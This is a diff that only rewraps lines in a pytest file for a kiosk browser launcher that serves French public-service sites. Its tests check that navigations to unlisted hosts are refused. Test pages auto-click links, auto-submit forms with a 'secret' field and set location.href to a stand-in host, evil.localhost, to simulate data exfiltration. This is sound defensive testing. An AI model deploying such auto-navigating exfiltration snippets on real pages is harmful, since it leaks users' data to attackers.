@@ -1,4 +1,5 @@
-"""Main-frame navigations to unlisted hosts never leave the window: the hostile server sees nothing."""
+"""Main-frame navigations to unlisted hosts never leave the window:
+the hostile server sees nothing."""
 
 from __future__ import annotations
 
@@ -24,8 +25,9 @@ def refused(launcher, fake_sites, html):
 
 
 def test_link_click_to_unlisted_host_is_refused(launcher, fake_sites, evil):
-    refused(launcher, fake_sites, f"<a id=a href='{evil}'>x</a>"
-                                  "<script>onload=()=>document.getElementById('a').click()</script>")
+    refused(launcher, fake_sites,
+            f"<a id=a href='{evil}'>x</a>"
+            "<script>onload=()=>document.getElementById('a').click()</script>")
     assert fake_sites.requests("evil.localhost") == []
 
 
@@ -36,9 +38,10 @@ def test_location_change_to_unlisted_host_is_refused(launcher, fake_sites, evil)
 
 @pytest.mark.parametrize("method", ["get", "post"])
 def test_form_submission_to_unlisted_host_is_refused(launcher, fake_sites, evil, method):
-    refused(launcher, fake_sites, f"<form id=f method={method} action='{evil}'>"
-                                  "<input name=q value=secret></form>"
-                                  "<script>onload=()=>document.getElementById('f').submit()</script>")
+    refused(launcher, fake_sites,
+            f"<form id=f method={method} action='{evil}'>"
+            "<input name=q value=secret></form>"
+            "<script>onload=()=>document.getElementById('f').submit()</script>")
     assert fake_sites.requests("evil.localhost") == []
 
 
@@ -60,7 +63,8 @@ def test_redirect_chain_within_allowed_hosts_is_followed(launcher, fake_sites):
     target = fake_sites.page("caf.localhost", "/arrived", "<h1>ok</h1>")
     via_fc = fake_sites.redirect("franceconnect.localhost", "/login", target)
     start = fake_sites.redirect("caf.localhost", "/start", via_fc)
-    mark = run_scenario(launcher, fake_sites, f"<script>onload=()=>{{location.href='{start}'}}</script>")
+    mark = run_scenario(launcher, fake_sites,
+                        f"<script>onload=()=>{{location.href='{start}'}}</script>")
     fake_sites.wait_for("caf.localhost", "/arrived")
     event = launcher.wait_event("navigation_allowed", since=mark, site_id="caf")
     assert event.detail is None
@@ -87,7 +91,8 @@ def test_target_blank_to_allowed_host_opens_in_the_same_window(launcher, fake_si
 
 
 def test_events_carry_no_url(launcher, fake_sites, evil):
-    refused(launcher, fake_sites, f"<script>onload=()=>{{location.href='{evil}?q=secret'}}</script>")
+    refused(launcher, fake_sites,
+            f"<script>onload=()=>{{location.href='{evil}?q=secret'}}</script>")
     assert all("localhost:" not in line and "secret" not in line for line in launcher.raw_lines)
 
 
@@ -95,7 +100,8 @@ def test_refused_page_offers_a_way_back_home(launcher, fake_sites, evil, display
     caf = fake_sites.page("caf.localhost", "/form", f"<a id=a href='{evil}'>x</a><script>"
                           "onload=()=>setTimeout(()=>document.getElementById('a').click(),100)"
                           "</script>")
-    mark = run_scenario(launcher, fake_sites, f"<script>onload=()=>{{location.href='{caf}'}}</script>")
+    mark = run_scenario(launcher, fake_sites,
+                        f"<script>onload=()=>{{location.href='{caf}'}}</script>")
     launcher.wait_event("navigation_refused", since=mark, site_id="caf")
     homes = len(fake_sites.requests("portal.localhost", "/"))
     xdotool("mousemove", "640", "500", display=display)
@@ -113,7 +119,8 @@ def test_alt_left_goes_back_within_allowed_pages(launcher, fake_sites, display):
     run_scenario(launcher, fake_sites, f"<script>location.href='{first}'</script>")
     fake_sites.wait_for("caf.localhost", "/shown")
     time.sleep(0.3)
-    xdotool("mousemove", "640", "400", "click", "1", display=display)  # a real click: a history entry
+    # a real click: a history entry
+    xdotool("mousemove", "640", "400", "click", "1", display=display)
     fake_sites.wait_for("caf.localhost", "/h2")
     seen = len(fake_sites.requests("caf.localhost", "/shown"))
     time.sleep(0.3)
@@ -123,7 +130,8 @@ def test_alt_left_goes_back_within_allowed_pages(launcher, fake_sites, display):
 
 def test_sites_are_asked_for_french(launcher, fake_sites):
     run_scenario(launcher, fake_sites, "<p>bonjour</p>")
-    assert fake_sites.requests("portal.localhost", "/")[-1].headers["accept-language"].startswith("fr")
+    assert fake_sites.requests("portal.localhost", "/")[-1].headers["accept-language"] \
+        .startswith("fr")
 
 
 @pytest.mark.parametrize("how", ["target_blank_click", "ctrl_click", "middle_click"])
